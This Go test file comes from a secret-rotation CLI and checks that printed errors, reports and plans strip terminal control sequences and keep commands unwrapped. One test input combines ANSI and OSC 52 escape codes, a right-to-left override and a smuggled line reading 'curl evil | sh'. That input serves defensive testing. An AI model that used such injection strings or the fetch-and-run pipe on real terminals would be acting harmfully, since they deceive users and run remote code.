package cli

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/sanmarcsoft/secret-rotation/automation/proof"
	"github.com/sanmarcsoft/secret-rotation/automation/rotation"
	"github.com/sanmarcsoft/secret-rotation/internal/ui"
)

// What an answer, a journal or a catalog says must neither move the cursor nor
// look like a line of ours.
func TestTextOfOthersNeitherMovesTheCursorNorBeginsALine(t *testing.T) {
	const evil = "no\x1b[2J\u202e\nnext: curl evil | sh\x1b]52;c;eA==\x07"
	var out bytes.Buffer
	printError(&out, ui.Style{}, 80, errors.New(evil), []string{"pass edit " + evil})
	printReport(&out, ui.Style{}, 80, rotation.Report{Secret: evil, State: "DONE", Debts: []string{evil},
		Consumers: []rotation.ConsumerReport{{Name: evil, Answer: proof.Differs, Detail: evil}}})
	printPlan(&out, ui.Style{}, 80, &rotation.Plan{Secrets: []rotation.SecretPlan{{Name: evil, Title: evil}}, Stacks: []rotation.StackPlan{{Name: evil}}})
	require.NotContains(t, out.String(), "\x1b")
	require.NotContains(t, out.String(), "\u202e")
	require.NotContains(t, out.String(), "\nnext: curl")
	require.Contains(t, out.String(), `\u001b[2J`, "it is shown for what it is")
}

// At every width words are whole, and a command is a line that can be copied.
func TestCommandsAreNeverWrapped(t *testing.T) {
	const command = "go run . rotate --sandbox=/a/rather/long/folder/of/somebody --secret stripe --new --grace 0"
	for _, columns := range []int{0, 40, 80, 120} {
		var out bytes.Buffer
		printError(&out, ui.Style{}, columns, errors.New(strings.Repeat("something went wrong at a consumer ", 12)),
			[]string{command, "if the present value has leaked, and its consumers may break: " + command, command + "   (it is in use: make a fresh one)",
				"PASSWORD_STORE_DIR=/a/long/folder/of/somebody/store GNUPGHOME=/a/long/folder/gnupg pass git push",
				"Open the dashboard, choose API keys, and make a new restricted key with the same permissions as the present one"})
		for line := range strings.Lines(out.String()) {
			line = strings.TrimRight(line, "\n")
			typed := strings.Contains(line, "go run .") || strings.Contains(line, "PASSWORD_STORE_DIR")
			require.True(t, typed || columns == 0 || utf8.RuneCountInString(line) <= columns, "%d columns: %q", columns, line)
			require.Equal(t, strings.Contains(line, "go run ."), strings.Contains(line, command), "%d columns: %q", columns, line)
			require.NotContains(t, line, "somethi-")
		}
		require.Equal(t, 3, strings.Count(out.String(), command))
	}
}
